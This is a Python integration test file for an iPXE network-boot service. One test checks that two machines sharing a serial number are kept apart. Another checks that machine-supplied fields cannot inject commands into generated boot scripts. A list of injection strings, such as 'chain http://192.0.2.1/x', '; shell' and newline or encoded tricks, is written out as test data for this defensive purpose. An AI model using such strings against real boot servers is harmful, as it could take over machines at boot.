"""Who a machine says it is: two machines with one number, and words with a meaning to iPXE."""

from __future__ import annotations

import asyncio
import itertools
import time
from pathlib import Path

import pytest
from structlog.testing import capture_logs

from integration.deploying import Machine, make_system, storeboot
from integration.test_choices import serving, set_up
from ipxe_model import script_commands
from storeboot.config import Config

ONE, TWO = "52:54:00:00:00:0a", "52:54:00:00:00:0b"


async def test_two_machines_with_one_serial_number_are_never_one_host(
    config: Config, path: Path, tmp_path: Path
) -> None:
    set_up(path)
    system = make_system(config, tmp_path, 1)
    await asyncio.to_thread(
        storeboot, path, "host", "add", "lab2", "--serial", "CZC1", "--system", system
    )
    async with serving(path) as (machine, running):
        one, two = Machine(machine._http, "lab2", ONE), Machine(machine._http, "lab2", TWO)
        assert f"init={system}/init" in await one.script(serial="CZC1")
        boot = await one.begin(system, serial="CZC1")
        await one.reach(boot, "multi-user")
        with capture_logs() as told:
            waiting = await two.script(serial="czc1 ")
            assert await two.script(serial="czc1 ")
        assert "init=" not in waiting
        assert f"lab2 runs on {ONE}, which sends the same CZC1, this one waits" in waiting
        (said,) = [each for each in told if each["event"] == "host.two_machines"]
        assert (said["mac"], said["other"], said["same"]) == (TWO, ONE, "CZC1")
        refused = await two.script(serial="CZC1", waited="99")
        assert "give lab2 the MAC addresses of its own machine" in refused
        with pytest.raises(AssertionError, match="lab2 runs on"):
            await two.begin(system, serial="CZC1")
        await one.heartbeat(boot)
        assert "init=" in await one.script(serial="CZC1")

        # The same machine, from its other NIC: it does not run any more.
        later = time.time() + 60
        running.service.clock = lambda: later
        assert f"init={system}/init" in await two.script(serial="CZC1")
        await two.begin(system, serial="CZC1")
        assert "init=" not in await one.script(serial="CZC1")
        await asyncio.to_thread(storeboot, path, "host", "set", "lab2", "--mac", ONE)
        assert "init=" in await one.script()


HOSTILE = (
    "x && chain http://192.0.2.1/x &&", "x || shell", "x ; shell ;", "# x", "${net0/mac}",
    "x\nshell", "x\r\nshell", "x\\", "$${uuid}{ip}", "%0Ashell", "%26%26 shell", "\u2028shell",
)  # fmt: skip
FIELDS = ("mac", "uuid", "serial", "like", "choice", "waited", "label.asset")


@pytest.mark.timeout(180)
async def test_nothing_that_a_machine_says_has_a_meaning_in_a_script(
    config: Config, path: Path, tmp_path: Path
) -> None:
    set_up(path, '[machines]\nunknown = "menu"\n')
    system = make_system(config, tmp_path, 1)
    await asyncio.to_thread(storeboot, path, "deploy", "lab1", system)
    async with serving(path) as (machine, _):
        stranger = Machine(machine._http, "", ONE)
        for asker, field in itertools.product((machine, stranger), FIELDS):
            for place in ("/boot", "/menu"):
                harmless = shape(await asker.script(place, **{field: "x"}))
                for words in HOSTILE:
                    hostile = await asker.script(place, **{field: words})
                    assert shape(hostile) == harmless, (place, field, words)


def shape(script: str) -> list[str]:
    """The commands, and how many words each has where that says what it does."""
    return [
        command[0] if command[0] in ("echo", "menu") else f"{command[0]} {len(command)}"
        for command in script_commands(script)
    ]
